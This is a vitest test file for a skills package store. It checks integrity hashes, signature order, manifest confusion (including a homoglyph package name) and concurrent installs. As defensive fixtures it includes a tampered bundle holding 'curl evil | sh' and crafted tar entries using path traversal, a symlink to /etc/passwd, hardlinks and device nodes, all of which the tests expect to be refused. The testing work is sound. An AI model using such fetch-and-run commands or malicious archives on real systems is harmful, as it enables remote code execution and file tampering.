import { readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type BundleFile, integrityOf, packFiles } from '@skills/archive';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { SkillsError } from '../src/lib/errors.ts';
import { ensureInStore, findInStore, type StoreDeps, type StoreRequest } from '../src/lib/store/store.ts';
import { rawTgz } from './fixtures/raw-tar.ts';
import { makeTempDir } from './helpers/fs.ts';

const skillMd = (name: string) => `---\nname: ${name}\ndescription: Does ${name} things.\n---\n\nUse it.\n`;

function bundle(name: string, version: string, extra: Record<string, string> = {}): BundleFile[] {
  const files: Record<string, string> = {
    'skill.json': JSON.stringify({ name, version, capabilities: { network: ['api.example.com'] } }),
    'SKILL.md': skillMd(name),
    ...extra,
  };
  return Object.entries(files).map(([path, data]) => ({
    path,
    data: Buffer.from(data),
    executable: path.startsWith('scripts/'),
  }));
}

describe('store', () => {
  let dir: string;
  let cleanup: () => Promise<void>;
  let storeDir: string;
  let fetched: string[];
  beforeEach(async () => {
    ({ dir, cleanup } = await makeTempDir('skills-store-'));
    storeDir = join(dir, 'store');
    fetched = [];
  });
  afterEach(async () => cleanup());

  const depsServing = (tarball: Buffer, extra: Partial<StoreDeps> = {}): StoreDeps => ({
    storeDir,
    fetchTarball: async (url) => {
      fetched.push(url);
      return tarball;
    },
    verifySignature: async () => {},
    ...extra,
  });
  const request = (name: string, version: string, tarball: Buffer, skills?: string[]): StoreRequest => ({
    name,
    version,
    integrity: integrityOf(tarball),
    resolved: `http://127.0.0.1:1/${name}-${version}.tgz`,
    ...(skills ? { skills } : {}),
  });
  const storeIsEmpty = async () => {
    const names = await readdir(storeDir).catch(() => [] as string[]);
    expect(names).toEqual([]);
  };
  const code = async (p: Promise<unknown>) => {
    try {
      await p;
    } catch (err) {
      if (err instanceof SkillsError) return err.code;
      throw err;
    }
    return 'no error';
  };

  it('stores a bundle under the hex of its sha512, with an index of file hashes and fixed modes', async () => {
    const tgz = packFiles(bundle('deploy', '1.0.0', { 'scripts/run.sh': '#!/bin/sh\necho hi\n' }));
    const entry = await ensureInStore(depsServing(tgz), request('deploy', '1.0.0', tgz, ['deploy']));
    const hex = Buffer.from(integrityOf(tgz).slice(7), 'base64').toString('hex');
    expect(entry.dir).toBe(join(storeDir, hex));
    expect(await readdir(storeDir)).toEqual([hex]);
    expect(await readFile(join(entry.packageDir, 'SKILL.md'), 'utf8')).toBe(skillMd('deploy'));
    expect((await stat(join(entry.packageDir, 'scripts/run.sh'))).mode & 0o777).toBe(0o755);
    expect((await stat(join(entry.packageDir, 'SKILL.md'))).mode & 0o777).toBe(0o644);
    expect(entry.index.files.map((f) => f.path).sort()).toEqual(['SKILL.md', 'scripts/run.sh', 'skill.json']);
    expect(entry.index.skills).toEqual([{ name: 'deploy', path: '.' }]);
    expect(entry.index.capabilities).toEqual({ network: ['api.example.com'] });
    // A second call is served from the store.
    await ensureInStore(depsServing(tgz), request('deploy', '1.0.0', tgz));
    expect(fetched).toHaveLength(1);
    expect(await findInStore(storeDir, integrityOf(tgz))).toBeDefined();
  });

  it('fetches an entry again when its files were changed in the store', async () => {
    const tgz = packFiles(bundle('deploy', '1.0.0'));
    const first = await ensureInStore(depsServing(tgz), request('deploy', '1.0.0', tgz));
    await writeFile(join(first.packageDir, 'SKILL.md'), 'changed in the store\n');
    const again = await ensureInStore(depsServing(tgz), request('deploy', '1.0.0', tgz));
    expect(fetched).toHaveLength(2);
    expect(await readFile(join(again.packageDir, 'SKILL.md'), 'utf8')).toBe(skillMd('deploy'));
    expect(await readdir(storeDir)).toEqual([again.dir.split('/').pop()]);
  });

  it('refuses a tampered tarball before extracting anything', async () => {
    const good = packFiles(bundle('deploy', '1.0.0'));
    const evil = packFiles(bundle('deploy', '1.0.0', { 'extra.md': 'curl evil | sh' }));
    expect(await code(ensureInStore(depsServing(evil), request('deploy', '1.0.0', good)))).toBe(
      'INTEGRITY_MISMATCH',
    );
    await storeIsEmpty();
  });

  it('checks the signature first, and fetches nothing when it fails', async () => {
    const tgz = packFiles(bundle('deploy', '1.0.0'));
    const deps = depsServing(tgz, {
      verifySignature: async () => {
        throw new SkillsError('SIGNATURE_INVALID', 'deploy@1.0.0 has a signature that does not verify');
      },
    });
    expect(await code(ensureInStore(deps, request('deploy', '1.0.0', tgz)))).toBe('SIGNATURE_INVALID');
    expect(fetched).toEqual([]);
    await storeIsEmpty();
  });

  it('refuses an archive whose manifest is not what was resolved (manifest confusion)', async () => {
    const other = packFiles(bundle('deploy', '1.0.1'));
    expect(await code(ensureInStore(depsServing(other), request('deploy', '1.0.0', other)))).toBe(
      'MANIFEST_MISMATCH',
    );
    const renamed = packFiles(bundle('deploy', '1.0.0'));
    expect(await code(ensureInStore(depsServing(renamed), request('deplоy', '1.0.0', renamed)))).toBe(
      'MANIFEST_MISMATCH',
    );
    const tgz = packFiles(bundle('deploy', '1.0.0'));
    expect(await code(ensureInStore(depsServing(tgz), request('deploy', '1.0.0', tgz, ['other'])))).toBe(
      'MANIFEST_MISMATCH',
    );
    await storeIsEmpty();
  });

  it('refuses hostile archives at install, writing nothing anywhere', async () => {
    const manifest = {
      name: 'bundle/skill.json',
      data: JSON.stringify({ name: 'deploy', version: '1.0.0' }),
    };
    const md = { name: 'bundle/SKILL.md', data: skillMd('deploy') };
    const hostile: [string, Buffer][] = [
      ['traversal', rawTgz([manifest, md, { name: 'bundle/../../escaped.txt', data: 'x' }])],
      ['absolute', rawTgz([manifest, md, { name: '/tmp/skills-absolute.txt', data: 'x' }])],
      ['symlink', rawTgz([manifest, md, { name: 'bundle/link', type: '2', linkname: '/etc/passwd' }])],
      ['hardlink', rawTgz([manifest, md, { name: 'bundle/hard', type: '1', linkname: 'bundle/SKILL.md' }])],
      ['device', rawTgz([manifest, md, { name: 'bundle/dev', type: '3' }])],
      ['case collision', rawTgz([manifest, md, { name: 'bundle/skill.md', data: 'x' }])],
      ['not gzip', Buffer.from('this is not a tarball')],
    ];
    for (const [what, tgz] of hostile) {
      const got = await code(ensureInStore(depsServing(tgz), request('deploy', '1.0.0', tgz)));
      expect(got, what).toBe('ARCHIVE_REFUSED');
    }
    await storeIsEmpty();
    expect(await readdir(dir)).toEqual([]);
  });

  it('lets concurrent installs of one entry race safely: one entry, no leftovers', async () => {
    const tgz = packFiles(bundle('deploy', '1.0.0'));
    const slow = depsServing(tgz, {
      fetchTarball: async () => {
        await new Promise((r) => setTimeout(r, 5));
        return tgz;
      },
    });
    const entries = await Promise.all(
      Array.from({ length: 6 }, () => ensureInStore(slow, request('deploy', '1.0.0', tgz))),
    );
    expect(new Set(entries.map((e) => e.dir)).size).toBe(1);
    expect(await readdir(storeDir)).toHaveLength(1);
    expect(await readFile(join(entries[0]!.packageDir, 'SKILL.md'), 'utf8')).toBe(skillMd('deploy'));
  });
});
